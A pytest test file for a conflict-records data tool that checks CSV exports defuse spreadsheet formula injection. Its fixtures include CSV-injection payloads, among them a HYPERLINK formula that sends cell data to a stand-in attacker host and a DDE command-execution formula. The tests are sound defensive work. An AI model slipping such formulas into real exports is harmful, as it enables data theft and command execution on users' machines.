"""Every CSV export writes formula-like text as text (OWASP, "CSV Injection"); the store keeps it as written.

Formulas are imported as a user would meet them: a UCDP GED file whose headlines (the reports'
descriptions) are formulas, and a victim list whose names are, each ingested with the CLI.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from harmtrace.store import Store, open_store
from harmtrace.store.export import copy_query
from tests.conftest import TEST_DATA, run_ok
from tests.ingest.ucdp_rows import ucdp_rows, write_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
]
# a tab or line feed before the formula; a lone carriage return in a cell is quarantined at import
# (csv_parse), so it is tried on the writer alone below
HIDDEN = ["\t=1+2", "\n=1+2"]


@pytest.fixture
def reports_db(tmp_path: Path) -> Path:
    header, rows = ucdp_rows(len(FORMULAS + HIDDEN))
    for row, text in zip(rows, FORMULAS + HIDDEN, strict=True):
        row["source_headline"] = text
    db = tmp_path / "reports.duckdb"
    run_ok(db, "ingest", "ucdp-ged", str(write_csv(tmp_path / "ged.csv", header, rows)))
    return db


@pytest.fixture
def victims_db(tmp_path: Path) -> Path:
    lines = ["uid,name,status,sex,date_of_death,place_of_death,cause"]
    for i, name in enumerate(FORMULAS, start=1):
        quoted = '"' + name.replace('"', '""') + '"'
        lines.append(f"V-{i},{quoted},Civilian,Male,2013-03-0{i},Homs,Shelling")
    victims = tmp_path / "victims.csv"
    victims.write_text("\n".join(lines) + "\n", encoding="utf-8")
    db = tmp_path / "victims.duckdb"
    run_ok(db, "ingest", "victims", str(victims), "--mapping", str(TEST_DATA / "victims_versions.yaml"))
    run_ok(db, "link", "victims")
    return db


def cells(path: Path, column: str) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [row[column] for row in csv.DictReader(fh)]


def stored(db: Path, sql: str) -> set[str]:
    with open_store(db, read_only=True) as store:
        return {r["text"] for r in store.rows(sql)}


@pytest.mark.parametrize("command", [["reports", "export"], ["incidents", "export"]], ids=" ".join)
def test_report_exports_write_formulas_as_text(reports_db: Path, tmp_path: Path, command: list[str]) -> None:
    out = tmp_path / "out.csv"
    run_ok(reports_db, *command, "--format", "csv", str(out), "--role", "admin")
    written = sorted(cells(out, "description"))
    assert written == sorted("'" + text for text in FORMULAS + HIDDEN)
    assert stored(reports_db, "SELECT description AS text FROM report") == set(FORMULAS + HIDDEN)


def test_persons_export_writes_formula_names_as_text(victims_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "persons.csv"
    run_ok(victims_db, "persons", "export", "--format", "csv", str(out), "--role", "admin")
    assert sorted(cells(out, "name")) == sorted("'" + name for name in FORMULAS)
    assert stored(victims_db, "SELECT name AS text FROM victim_record") == set(FORMULAS)


def test_parquet_keeps_the_text_as_stored(reports_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "reports.parquet"
    run_ok(reports_db, "reports", "export", "--format", "parquet", str(out), "--role", "admin")
    assert set(pq.read_table(out).column("description").to_pylist()) == set(FORMULAS + HIDDEN)


def test_text_cells_are_quoted_and_numbers_stay_numbers(store: Store, tmp_path: Path) -> None:
    out = tmp_path / "rows.csv"
    select = "SELECT -3 AS n, '-3' AS t, 'a;=1+2' AS s, chr(13) || '=1+2' AS cr, NULL::VARCHAR AS missing"
    copy_query(store, select, out, "csv")
    assert out.read_bytes().decode("utf-8") == 'n,"t","s","cr","missing"\n-3,"\'-3","a;=1+2","\'\r=1+2",\n'
